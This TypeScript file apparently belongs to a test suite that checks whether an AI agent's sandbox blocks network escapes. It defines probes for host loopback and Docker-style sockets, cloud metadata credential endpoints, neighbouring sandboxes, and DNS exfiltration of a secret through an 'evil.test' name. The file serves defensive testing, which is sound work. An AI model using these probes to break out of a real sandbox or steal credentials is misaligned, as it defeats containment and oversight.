// Can an agent reach anything past the proxy: the machine, its neighbours, the network?

import { createSocket } from "node:dgram";
import { once } from "node:events";
import { chmodSync } from "node:fs";
import { type AddressInfo, connect, createServer, type ListenOptions } from "node:net";
import { join } from "node:path";
import { metadataAddresses, printedInCloud } from "./cloud.ts";
import type { Conditions, Field, Program } from "./field.ts";
import type { Vector } from "./vector.ts";
import { sharing } from "./weaken.ts";

/** Prints what it hears there. */
const listenTo = (where: object): Program => ({
  language: "node",
  source: `import { connect } from "node:net";
    const socket = connect(${JSON.stringify(where)});
    socket.on("data", (bytes) => process.stdout.write(bytes)).on("error", (error) => console.log(error.code));
    socket.setTimeout(5000, () => { console.log("silence"); socket.destroy(); });`,
});

const hears = (field: Field, printed: string) => printed.includes(field.secret);
const unwalled: Conditions = { weaken: sharing("net") };

/** A service of the machine that tells the secret to whoever connects. */
async function serve(field: Field, where: ListenOptions): Promise<number> {
  const server = createServer((socket) => socket.on("error", () => undefined).end(field.secret)).listen(where);
  await once(server, "listening");
  field.undo(() => server.close());
  const address = server.address();
  return typeof address === "object" ? (address as AddressInfo).port : 0;
}

/** The same program, once walled off and once in the machine's own network. */
function pastTheWall(attack: string, where: (field: Field) => Promise<object>, needs: Vector["needs"] = []): Vector {
  return {
    attack,
    heldBy: "a network namespace with nothing but a loopback",
    needs,
    run: async (field) => hears(field, await field.confined(listenTo(await where(field)))),
    control: async (field) => hears(field, await field.confined(listenTo(await where(field)), unwalled)),
  };
}

const abstractName = (field: Field) => `\0drover-${field.secret.slice(-8)}-${Math.random()}`;

/** A sandbox with a service of its own; the port is free in its namespace as well as in the machine's. */
async function startNeighbour(field: Field, where: object, conditions: Conditions): Promise<void> {
  const source = `import { writeFileSync } from "node:fs";
    import { createServer } from "node:net";
    createServer((socket) => socket.on("error", () => undefined).end(${JSON.stringify(field.secret)}))
      .listen(${JSON.stringify(where)}, () => writeFileSync("up", "1"));`;
  const neighbour = await field.start({ language: "node", source }, conditions);
  await neighbour.untilWritten("up");
}

async function findFreePort(): Promise<number> {
  const server = createServer().listen(0, "127.0.0.1");
  await once(server, "listening");
  const { port } = server.address() as AddressInfo;
  server.close();
  await once(server, "close");
  return port;
}

function fromNeighbour(attack: string, where: (field: Field) => Promise<object>): Vector {
  const attempt = async (field: Field, conditions: Conditions) => {
    const place = await where(field);
    await startNeighbour(field, place, conditions);
    return hears(field, await field.confined(listenTo(place), conditions));
  };
  return {
    attack,
    heldBy: "a network namespace for each sandbox",
    run: (field) => attempt(field, {}),
    control: (field) => attempt(field, unwalled),
  };
}

/** Asks a name server for a name that carries what it has stolen. */
const askName = (port: number, name: string): Program => ({
  language: "node",
  source: `import { Resolver } from "node:dns";
    const resolver = new Resolver({ timeout: 1000, tries: 1 });
    resolver.setServers(["127.0.0.1:${port}"]);
    resolver.resolve4(${JSON.stringify(name)}, () => process.exit(0));`,
});

async function namesAsked(field: Field, conditions: Conditions): Promise<boolean> {
  const server = createSocket("udp4");
  const heard: string[] = [];
  server.on("message", (bytes) => heard.push(bytes.toString("latin1"))).bind(0, "127.0.0.1");
  await once(server, "listening");
  field.undo(() => server.close());
  await field.confined(askName(server.address().port, `${field.secret}.evil.test`), conditions);
  return heard.some((text) => text.includes(field.secret));
}

/** Prints what each address answers. */
const askMetadata = `for (const host of ${JSON.stringify(metadataAddresses)}) {
  const socket = require("node:net").connect({ host, port: 80 });
  socket.setTimeout(3000, () => socket.destroy());
  socket.on("data", (bytes) => console.log(host, String(bytes).split("\\r\\n\\r\\n")[1])).on("error", () => undefined);
  socket.write("GET /latest/meta-data/ HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n");
}`;

export const networkVectors: Vector[] = [
  pastTheWall("reach a service on the machine's loopback", async (field) => {
    return { port: await serve(field, { port: 0, host: "127.0.0.1" }), host: "127.0.0.1" };
  }),
  pastTheWall(
    "reach a service on the machine's loopback by IPv6",
    async (field) => ({ port: await serve(field, { port: 0, host: "::1" }), host: "::1" }),
    ["ipv6"],
  ),
  pastTheWall("reach an abstract socket of the machine, as D-Bus and containers have them", async (field) => {
    const path = abstractName(field);
    await serve(field, { path });
    return { path };
  }),
  {
    attack: "reach a socket of the machine that lies in the file system and is open to all, as Docker's",
    heldBy: "a mount namespace",
    run: async (field) => hears(field, await field.confined(listenTo({ path: await openSocket(field) }))),
    control: async (field) => hears(field, await field.open(listenTo({ path: await openSocket(field) }))),
  },
  {
    attack: "reach the metadata addresses of a cloud directly (IPv4, IPv6, task credentials)",
    heldBy: "a network namespace with nothing but a loopback",
    needs: ["root", "ip", "ipv6"],
    // In a network where they do answer.
    run: async (field) => hears(field, await printedInCloud(field, askMetadata, true)),
    control: async (field) => {
      const printed = await printedInCloud(field, askMetadata, false);
      return metadataAddresses.every((address) => printed.includes(`${address} ${field.secret}`));
    },
  },
  {
    attack: "carry out what it has stolen in the names it asks a name server for",
    heldBy: "a network namespace with nothing but a loopback",
    run: (field) => namesAsked(field, {}),
    control: (field) => namesAsked(field, unwalled),
  },
  fromNeighbour("reach a service on the loopback of another sandbox", async () => {
    return { port: await findFreePort(), host: "127.0.0.1" };
  }),
  fromNeighbour("reach an abstract socket of another sandbox", async (field) => ({ path: abstractName(field) })),
  {
    attack: "offer a service that the machine takes for its own",
    heldBy: "a network namespace for each sandbox",
    run: (field) => isServedFromInside(field, {}),
    control: (field) => isServedFromInside(field, unwalled),
  },
  {
    attack: "read the workspace of another sandbox whose uid it shares",
    heldBy: "a mount namespace",
    async run(field) {
      const path = await neighboursFile(field);
      return hears(field, await field.confined(readFile(path)));
    },
    async control(field) {
      const path = await neighboursFile(field);
      return hears(field, await field.open(readFile(path)));
    },
  },
];

async function openSocket(field: Field): Promise<string> {
  const path = join(field.scratch(), "open.sock");
  await serve(field, { path });
  chmodSync(path, 0o777);
  return path;
}

async function isServedFromInside(field: Field, conditions: Conditions): Promise<boolean> {
  const port = await findFreePort();
  await startNeighbour(field, { port, host: "127.0.0.1" }, conditions);
  const socket = connect({ port, host: "127.0.0.1" });
  const heard = await once(socket, "data").then(
    ([bytes]) => String(bytes),
    () => "nobody is there",
  );
  socket.destroy();
  return heard.includes(field.secret);
}

const readFile = (path: string): Program => ({ language: "sh", source: `cat '${path}' 2>&1` });

async function neighboursFile(field: Field): Promise<string> {
  const folder = field.nextFolder();
  const source = "cat kept; sleep 60";
  await field.start({ language: "sh", source, files: { kept: field.secret } }, { folder });
  return join(folder.root, "workspace/kept");
}
